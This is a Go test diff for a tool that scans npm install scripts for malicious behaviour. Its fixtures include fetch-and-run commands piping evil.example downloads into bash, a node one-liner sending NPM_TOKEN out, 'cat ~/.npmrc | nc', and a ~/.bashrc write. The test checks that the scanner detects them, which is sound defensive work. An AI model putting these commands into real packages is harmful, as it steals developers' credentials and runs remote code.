@@ -309,3 +309,49 @@ func TestSHA1LockfileCheckedAgainstRegistry(t *testing.T) {
 		t.Fatalf("got %+v, want the registry's hash to catch it", res.Signals)
 	}
 }
+
+func TestInstallScriptVariants(t *testing.T) {
+	t.Parallel()
+	reg := npmregistrytest.New(t)
+	tests := []struct {
+		name    string
+		scripts map[string]string
+		files   map[string]string
+		sev     osv.Severity
+		file    string
+		line    int
+		detail  string
+	}{
+		{"wget to bash", map[string]string{"preinstall": "wget -qO- http://evil.example/i | bash"}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
+		{"subshell download", map[string]string{"install": `bash -c "$(curl -fsSL https://evil.example/i.sh)"`}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
+		{"inline node", map[string]string{"postinstall": `node -e "require(\"https\").get('https://evil.example/' + process.env.NPM_TOKEN)"`}, nil, osv.SeverityCritical, "package.json", 0, "reads secrets from the environment"},
+		{"inline node network", map[string]string{"postinstall": `node -e "require('https').get('https://evil.example/x')"`}, nil, osv.SeverityHigh, "package.json", 0, "makes network requests (requires https, in node -e)"},
+		{"npm run chain", map[string]string{"postinstall": "npm run setup", "setup": "node tools/setup"}, map[string]string{"tools/setup.js": "\n\nrequire('child_process').spawn('sh')\n"}, osv.SeverityHigh, "tools/setup.js", 3, "postinstall: spawns processes"},
+		{"shell file", map[string]string{"install": "sh ./install.sh"}, map[string]string{"install.sh": "#!/bin/sh\nset -e\ncat ~/.npmrc | nc evil.example 80\n"}, osv.SeverityCritical, "install.sh", 3, "reads credentials"},
+		{"writes home", map[string]string{"postinstall": "node i.js"}, map[string]string{"i.js": "const fs = require('fs')\nfs.appendFileSync(require('os').homedir() + '/.bashrc', 'x')\n"}, osv.SeverityHigh, "i.js", 2, "writes outside the package"},
+		{"minified", map[string]string{"postinstall": "node m.js"}, map[string]string{"m.js": strings.Repeat("var a=1;", 1000)}, osv.SeverityHigh, "m.js", 1, "runs minified code"},
+	}
+	for i, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			name := fmt.Sprintf("script-%d", i)
+			files := map[string]string{"index.js": "module.exports = 1\n"}
+			for k, v := range tc.files {
+				files[k] = v
+			}
+			integ := reg.Publish(npmregistrytest.Package{Name: name, Version: "1.0.0", Scripts: tc.scripts, Files: files})
+			res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{{Source: "l", Package: lockfile.Package{
+				Name: name, Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			kinds := []deps.SignalKind{deps.SignalInstallBehaviour, deps.SignalObfuscated}
+			for _, k := range kinds {
+				if has(res.Signals, k, tc.sev, tc.file, tc.line, tc.detail) {
+					return
+				}
+			}
+			t.Fatalf("want %s at %s:%d with %q; got %+v", tc.sev, tc.file, tc.line, tc.detail, res.Signals)
+		})
+	}
+}
